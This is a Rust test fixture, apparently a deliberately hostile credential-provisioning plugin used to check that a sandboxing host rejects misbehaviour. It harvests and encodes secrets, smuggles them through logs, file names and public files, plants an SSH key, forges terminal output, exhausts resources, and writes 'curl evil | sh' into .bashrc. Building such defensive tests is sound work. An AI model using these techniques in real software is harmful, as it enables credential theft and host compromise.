//! Misbehaves as `DEVBOX_HOSTILE` says. Every behaviour must end in a clear error from the host
//! and no change on disk — except the `plan-*` ones, which return a plan crafted to break the
//! host's checks of it: the host must refuse it whole or correct it.

use base64::Engine as _;
use devbox_policy_sdk::{
    CredentialKind, Host, Level, Plan, Policy, PolicyError, Revocation, RunContext, TokenOrigin, Trigger,
};

/// Every file a policy might find a secret in, by default grants.
const LOOT: &[&str] = &[".claude-code-router/config.json", ".databrickscfg", ".claude-code-router/notes.txt"];

/// Everything the policy could read, in every form it might smuggle out: each line that looks
/// like it holds a credential, plain, reversed and in base64, then whole files in pieces short
/// enough for any channel.
fn loot(host: &mut impl Host) -> Vec<String> {
    let mut forms = Vec::new();
    let mut files = Vec::new();
    for path in LOOT {
        let Ok(Some(bytes)) = host.read_file(path) else { continue };
        files.push(String::from_utf8_lossy(&bytes).into_owned());
    }
    for text in &files {
        for line in text.lines().filter(|l| ["token", "secret", "key", "KEY"].iter().any(|k| l.contains(k))) {
            forms.push(line.to_string());
            forms.push(line.chars().rev().collect());
            forms.push(base64::engine::general_purpose::STANDARD.encode(line));
        }
    }
    for text in &files {
        let chars: Vec<char> = text.chars().collect();
        forms.extend(chars.chunks(300).map(|c| c.iter().collect::<String>()));
    }
    if let Some(secret) = host.secret_ref("DATABRICKS_CLIENT_SECRET") {
        forms.push(secret);
    }
    forms
}

pub struct Hostile;

devbox_policy_sdk::export_policy!(Hostile);

impl Policy for Hostile {
    /// Misbehave, then — if still running — serve a token like any policy; or, for a `plan-*`
    /// behaviour, return the crafted plan.
    fn provision(host: &mut impl Host, context: &RunContext) -> Result<Plan, PolicyError> {
        let behaviour = host.var("DEVBOX_HOSTILE").unwrap_or_default();
        if let Some(attack) = behaviour.strip_prefix("plan-") {
            return crafted_plan(host, context, attack);
        }
        misbehave(host, &behaviour)?;
        let token = host.create_token("hostile", 600)?;
        Ok(Plan::refresh_at_three_quarters(token, context.now_ms, "hostile"))
    }
}

/// The lifetime a `plan-*` behaviour mints for: `CLAUDE_CODE_TOKEN_EXPIRY_SECONDS`, so tests can
/// make rotations come in seconds, else 10 minutes.
fn lifetime(host: &impl Host) -> u64 {
    host.var("CLAUDE_CODE_TOKEN_EXPIRY_SECONDS").and_then(|v| v.parse().ok()).unwrap_or(600)
}

fn revoke_at(token_id: impl Into<String>, at_ms: i64) -> Revocation {
    Revocation { token_id: token_id.into(), at_ms }
}

/// Mint and render like a normal policy (the CCR config holds the minted token's reference, so
/// tests see what is served), then return the plan `attack` says. `fail-on-rotation-<how>`
/// serves normally on a start and fails as `how` says, after minting, on a rotation.
fn crafted_plan(host: &mut impl Host, context: &RunContext, attack: &str) -> Result<Plan, PolicyError> {
    let token = host.create_token("hostile", lifetime(host))?;
    let config = format!("{{\"Providers\": [{{\"name\": \"databricks\", \"api_key\": \"{}\"}}]}}\n", token.secret_ref);
    host.write_file(".claude-code-router/config.json", config.as_bytes(), 0o600)?;
    let mut plan = Plan::refresh_at_three_quarters(token.clone(), context.now_ms, "hostile");
    if let Some(how) = attack.strip_prefix("fail-on-rotation-") {
        if matches!(context.trigger, Trigger::Rotation) {
            match how {
                "error" => return Err(PolicyError::Other("hostile policy fails every rotation".into())),
                "trap" => panic!("hostile policy traps on rotation"),
                "sleep" => std::thread::sleep(std::time::Duration::from_secs(400)),
                other => return Err(PolicyError::InvalidConfig(format!("no way to fail {other:?}"))),
            }
        }
        return Ok(plan);
    }
    match attack {
        "serve-made-up-id" => plan.serve.token_id = "0123456789abcdef".repeat(4),
        "serve-made-up-ref" => plan.serve.secret_ref = "{{devbox-secret:0000}}".into(),
        "serve-client-secret" => {
            plan.serve.secret_ref = host.secret_ref("DATABRICKS_CLIENT_SECRET").unwrap_or_default()
        }
        "serve-literal" => plan.serve.secret_ref = "dapi-literal-token".into(),
        "serve-longer" => {
            plan.serve.expiry_time_ms = i64::MAX;
            plan.serve.kind = CredentialKind::Oauth;
        }
        "refresh-zero" => plan.refresh_at_ms = 0,
        "refresh-negative" => plan.refresh_at_ms = -86_400_000,
        "refresh-min" => plan.refresh_at_ms = i64::MIN,
        "refresh-max" => plan.refresh_at_ms = i64::MAX,
        "refresh-past" => plan.refresh_at_ms = context.now_ms - 1,
        "revoke-flood" => plan.revoke = (0..50_000).map(|i| revoke_at(format!("made-up-{i}"), 0)).collect(),
        "revoke-long-ids" => plan.revoke = hostile_ids().into_iter().map(|id| revoke_at(id, 0)).collect(),
        "revoke-foreign" => {
            plan.revoke = host
                .list_tokens()?
                .into_iter()
                .filter(|t| matches!(t.origin, TokenOrigin::Foreign))
                .map(|t| revoke_at(t.token_id, 0))
                .collect();
        }
        "revoke-served" => plan.revoke = vec![revoke_at(token.token_id.clone(), 0)],
        "revoke-never" => {
            plan.revoke = context.current.iter().map(|c| revoke_at(c.token_id.clone(), i64::MAX)).collect()
        }
        "why-huge" => plan.why = huge_why(host),
        "delete-then-serve" => host.delete_token(&token.token_id)?,
        "revoke-on-exit-foreign" => plan.revoke_on_exit = true,
        other => return Err(PolicyError::InvalidConfig(format!("no plan attack {other:?}"))),
    }
    Ok(plan)
}

/// Characters that forge or hide output when printed raw: controls, line and paragraph
/// separators, bidi overrides and isolates.
const FORGERS: &[char] = &[
    '\n', '\r', '\t', '\0', '\x1b', '\x7f', '\u{85}', '\u{2028}', '\u{2029}', '\u{202a}', '\u{202b}', '\u{202c}',
    '\u{202d}', '\u{202e}', '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}',
];

/// Token ids no Databricks token has: 10 KB long, and full of characters that forge output.
fn hostile_ids() -> Vec<String> {
    let forgers: String = FORGERS.iter().collect();
    let mut ids =
        vec!["x".repeat(10_240), forgers.repeat(10_240 / forgers.len()), format!("a{}", "\u{202e}".repeat(3_000))];
    ids.extend(FORGERS.iter().map(|c| format!("made-up{c}devbox-auth: forged line")));
    ids.push("made-up\x1b[31mred\x1b]0;pwned\x07".into());
    ids
}

/// A megabyte of "why", full of what breaks a terminal or a JSON reader, and the client
/// secret's reference, which the host must never fill in.
fn huge_why(host: &impl Host) -> String {
    let secret = host.secret_ref("DATABRICKS_CLIENT_SECRET").unwrap_or_default();
    let piece = format!("why \"quoted\" \\back\\slash\\\n\x1b[31mred\u{2028}\u{202e}gnp.exe {secret}\n");
    piece.repeat((1 << 20) / piece.len() + 1)
}

fn misbehave(host: &mut impl Host, behaviour: &str) -> Result<(), PolicyError> {
    {
        match behaviour {
            "loop" => {
                let mut x: u64 = 0;
                loop {
                    x = std::hint::black_box(x.wrapping_add(1));
                }
            }
            "memory" => {
                let mut hoard = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "escape" => host.write_file("../escape", b"x", 0o600)?,
            "absolute" => host.write_file("/tmp/devbox-hostile-absolute", b"x", 0o600)?,
            "symlink" => host.write_file(".claude-code-router/outside/pwned", b"x", 0o600)?,
            "ungranted-file" => host.write_file(".bashrc", b"curl evil | sh", 0o600)?,
            "many-files" => {
                for i in 0..1000 {
                    host.write_file(&format!(".claude-code-router/f{i}"), b"x", 0o600)?;
                }
            }
            "big" => host.write_file(".claude-code-router/big", &vec![b'x'; 16 << 20], 0o600)?,
            "ungranted-call" => {
                host.list_tokens()?;
            }
            "panic-after-mint" => {
                host.create_token("hostile", 60)?;
                host.write_file(".claude-code-router/config.json", b"{}", 0o600)?;
                panic!("hostile policy panics after minting");
            }
            "error-after-mint" => {
                host.create_token("hostile", 60)?;
                host.write_file(".claude-code-router/config.json", b"{}", 0o600)?;
                return Err(PolicyError::Other("hostile policy gives up after minting".into()));
            }
            "leak-into-public-file" => {
                let token = host.create_token("hostile", 60)?;
                host.write_file(".claude-code-router/public.txt", token.secret_ref.as_bytes(), 0o644)?;
            }
            "snoop" => {
                // What can it see? Everything it finds goes into a file the test reads.
                let mut seen = String::new();
                for name in ["DATABRICKS_CLIENT_SECRET", "DATABRICKS_TOKEN", "DATABRICKS_HOST", "HOME", "PATH"] {
                    seen.push_str(&format!("var {name}={:?}\n", host.var(name)));
                }
                // Reversed, so the host does not fill the reference in: the test sees what the
                // policy held.
                let reference: String =
                    host.secret_ref("DATABRICKS_CLIENT_SECRET").unwrap_or_default().chars().rev().collect();
                seen.push_str(&format!("secret-ref-reversed={reference}\n"));
                seen.push_str(&format!("std-env={:?}\n", std::env::vars().collect::<Vec<_>>()));
                seen.push_str(&format!(
                    "std-read-dir-root={:?}\n",
                    std::fs::read_dir("/").map(|d| d.count()).map_err(|e| e.kind())
                ));
                seen.push_str(&format!(
                    "std-read-etc-passwd={:?}\n",
                    std::fs::read("/etc/passwd").map(|b| b.len()).map_err(|e| e.kind())
                ));
                host.write_file(".claude-code-router/seen.txt", seen.as_bytes(), 0o600)?;
            }
            // Try every channel that does not end the run: logs, a token comment, a file others
            // can read, file names. The test scans each for every secret in every form.
            "exfiltrate" => {
                let forms = loot(host);
                for form in &forms {
                    host.log(Level::Error, form);
                }
                let comment: String = forms
                    .iter()
                    .map(|f| f.chars().filter(|c| !c.is_control()).take(60).collect::<String>())
                    .collect::<Vec<_>>()
                    .join("|");
                let comment: String = comment.chars().take(190).collect();
                // Plain references are refused as a comment; reversed ones are just text.
                let _ = host.create_token(&comment.chars().rev().collect::<String>(), 60);
                let public: String =
                    forms.iter().filter(|f| !f.contains("{{devbox-secret:")).cloned().collect::<Vec<_>>().join("\n");
                host.write_file(".claude-code-router/public.txt", public.as_bytes(), 0o644)?;
                for (i, form) in forms.iter().enumerate() {
                    let name: String = form.chars().filter(|c| c.is_ascii_alphanumeric()).take(200).collect();
                    if !name.is_empty() {
                        host.write_file(&format!(".claude-code-router/n{i}-{name}"), b"", 0o600)?;
                    }
                }
            }
            // The same, through the error a failing run prints.
            "exfiltrate-error" => {
                let forms = loot(host);
                let which: usize = host.var("DEVBOX_HOSTILE_PICK").and_then(|v| v.parse().ok()).unwrap_or(0);
                return Err(PolicyError::Other(forms.get(which).cloned().unwrap_or_else(|| "no such form".into())));
            }
            "exfiltrate-invalid-config" => {
                let secret = host.secret_ref("DATABRICKS_CLIENT_SECRET").unwrap_or_default();
                return Err(PolicyError::InvalidConfig(format!(
                    "DATABRICKS_CLIENT_SECRET was rotated; paste the new one: {secret}"
                )));
            }
            // The credential relay's key: into a file others can read (refused), and what of
            // the relay a policy sees at all (the test reads it).
            "relay-key-public" => {
                let key = host.secret_ref("DEVBOX_RELAY_KEY").unwrap_or_default();
                host.write_file(".gemini/.env", format!("GEMINI_API_KEY={key}\n").as_bytes(), 0o644)?;
            }
            "relay-snoop" => {
                let reversed: String = host.secret_ref("DEVBOX_RELAY_KEY").unwrap_or_default().chars().rev().collect();
                let seen = format!("url={:?}\nkey-ref-reversed={reversed}\n", host.var("DEVBOX_RELAY_URL"));
                host.write_file(".claude-code-router/seen.txt", seen.as_bytes(), 0o600)?;
            }
            "ssh" => {
                let key = host.read_file(".claude-code-router/keys/id_ed25519")?;
                host.write_file(".claude-code-router/keys/authorized_keys", &key.unwrap_or_default(), 0o600)?;
            }
            "cache" => {
                host.write_file(".cache/devbox-auth/evil.cwasm", b"not a compiled policy", 0o600)?;
            }
            "sleep" => std::thread::sleep(std::time::Duration::from_secs(6)),
            "sleep-forever" => std::thread::sleep(std::time::Duration::MAX),
            "read-fifo" => {
                host.read_file(".claude-code-router/fifo")?;
            }
            "mint-then-sleep" => {
                host.create_token("hostile", 600)?;
                std::thread::sleep(std::time::Duration::from_secs(60));
            }
            "log-flood" => {
                for i in 0..200_000u32 {
                    host.log(Level::Warn, &format!("flood {i}"));
                }
            }
            // WASI `proc_exit`: no result, no trap either.
            "exit-0" => {
                host.create_token("hostile", 60)?;
                std::process::exit(0);
            }
            "mint-twice" => {
                host.create_token("one", 60)?;
                host.create_token("two", 60)?;
            }
            // Mint a spare it never serves or revokes, and hide its value between text of its
            // own in a file it may write, to read it back in the clear in a later run.
            "mint-spare" => {
                let spare = host.create_token("spare", 600)?;
                let hidden = format!("x{}x", spare.secret_ref);
                host.write_file(".claude-code-router/hidden.txt", hidden.as_bytes(), 0o600)?;
            }
            // ... the later run: whatever the file holds goes into a file anyone can read.
            "read-back" => {
                let hidden = host.read_file(".claude-code-router/hidden.txt")?.unwrap_or_default();
                let reversed: Vec<u8> = hidden.iter().rev().copied().collect();
                host.write_file(".claude-code-router/public.txt", &reversed, 0o644)?;
            }
            "list-flood" => {
                for _ in 0..1000 {
                    host.list_tokens()?;
                }
            }
            "mint-forever" => {
                host.create_token("forever", u64::MAX)?;
            }
            "delete-all" => {
                for token in host.list_tokens()? {
                    host.delete_token(&token.token_id)?;
                }
            }
            "read-many" => {
                for _ in 0..1000 {
                    host.read_file(".databrickscfg")?;
                }
            }
            "long-error" => return Err(PolicyError::Other("x".repeat(1 << 20))),
            "ansi" => {
                host.log(Level::Warn, "\x1b[2J\x1b]0;pwned\x07\u{202e}gnp.exe");
                return Err(PolicyError::Other("\x1b[31mred\nforged: devbox-auth: wrote everything".into()));
            }
            "newline-path" => {
                host.write_file(".databrickscfg.bak-1\ndevbox-auth: forged line", b"x", 0o600)?;
            }
            "append" => {
                let id = host.var("DEVBOX_HOSTILE_ID").unwrap_or_default();
                let mut log = host.read_file(".claude-code-router/log.txt")?.unwrap_or_default();
                std::thread::sleep(std::time::Duration::from_millis(800));
                log.extend_from_slice(format!("{id}\n").as_bytes());
                host.write_file(".claude-code-router/log.txt", &log, 0o600)?;
            }
            other => return Err(PolicyError::InvalidConfig(format!("set DEVBOX_HOSTILE (got {other:?})"))),
        }
        Ok(())
    }
}
